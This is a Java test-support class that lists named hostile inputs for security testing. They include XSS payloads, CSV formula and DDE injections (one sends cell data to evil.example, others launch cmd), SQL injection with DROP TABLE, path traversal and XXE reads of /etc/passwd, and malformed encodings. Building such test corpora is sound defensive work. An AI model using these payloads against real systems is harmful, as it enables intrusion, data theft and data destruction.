package org.airegistry.testsupport;

import java.util.List;

/**
 * The hostile test corpus (issue 15): inputs attackers and broken clients send. Each has
 * a name for test reports. Byte-level cases (invalid UTF-8, NUL) are given
 * percent-encoded for URLs; files (fake, encrypted, oversized PDFs, zip bombs) are in
 * {@code TestPdfs}.
 */
public final class HostileInputs {

	private HostileInputs() {
	}

	/** A named hostile value. */
	public record Input(String name, String value) {
	}

	/** Text values for form fields and decoded parameters. */
	public static final List<Input> TEXT = List.of(new Input("script tag", "<script>alert('xss')</script>"),
			new Input("html attribute injection", "\"><img src=x onerror=alert(1)>"),
			new Input("svg onload", "<svg/onload=alert(document.domain)>"),
			new Input("csv formula", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
			new Input("csv dde", "@SUM(1+1)*cmd|' /C calc'!A0"), new Input("csv plus", "+1+cmd|' /C calc'!A0"),
			new Input("sql injection", "' OR '1'='1'; DROP TABLE ai_system; --"), new Input("sql comment", "admin'--"),
			new Input("elasticsearch query syntax", "title:(a OR b) AND _exists_:secret~2 /.*/"),
			new Input("elasticsearch json", "{\"query\":{\"match_all\":{}}}"),
			new Input("control characters", "line\u0000nul\u0007bell\u001bescape\rcr"),
			new Input("right-to-left override", "invoice\u202Efdp.exe"), new Input("zero width", "adm\u200Bin\uFEFF"),
			new Input("emoji and astral", "\uD83D\uDE00\uD835\uDC00 text"),
			new Input("lone surrogate", "broken \uD800 surrogate"),
			new Input("path traversal", "../../../../etc/passwd"),
			new Input("windows traversal", "..\\..\\windows\\win.ini"), new Input("url", "javascript:alert(1)"),
			new Input("xml entity", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
			new Input("huge number", "99999999999999999999999999999999999999"), new Input("negative", "-1"),
			new Input("float", "1e309"), new Input("1 MB string", "A".repeat(1024 * 1024)));

	/**
	 * Raw (already percent-encoded) query values, including bytes that are not valid
	 * UTF-8 and NUL.
	 */
	public static final List<Input> RAW_QUERY = List.of(new Input("invalid UTF-8", "%C3%28"),
			new Input("overlong UTF-8", "%C0%AF"), new Input("NUL", "%00"), new Input("percent alone", "%"),
			new Input("script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"), new Input("huge number", "9".repeat(40)),
			new Input("negative", "-5"), new Input("es syntax", "a%20AND%20b%3A*"),
			new Input("long", "x".repeat(7000)));

}
